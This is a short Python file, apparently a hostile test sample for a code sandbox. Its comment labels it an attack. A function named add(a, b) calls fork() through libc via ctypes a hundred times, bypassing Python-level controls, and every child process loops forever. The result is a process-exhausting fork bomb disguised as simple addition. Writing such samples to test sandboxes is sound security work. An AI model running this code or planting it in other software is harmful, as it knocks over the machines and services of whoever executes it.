# ruff: noqa
# attack: fork through libc directly (ctypes), bypassing Python
import ctypes

libc = ctypes.CDLL(None)


def add(a, b):
    for _ in range(100):
        pid = libc.fork()
        if pid == 0:
            while True:
                pass
    return a + b if pid > 0 else 0
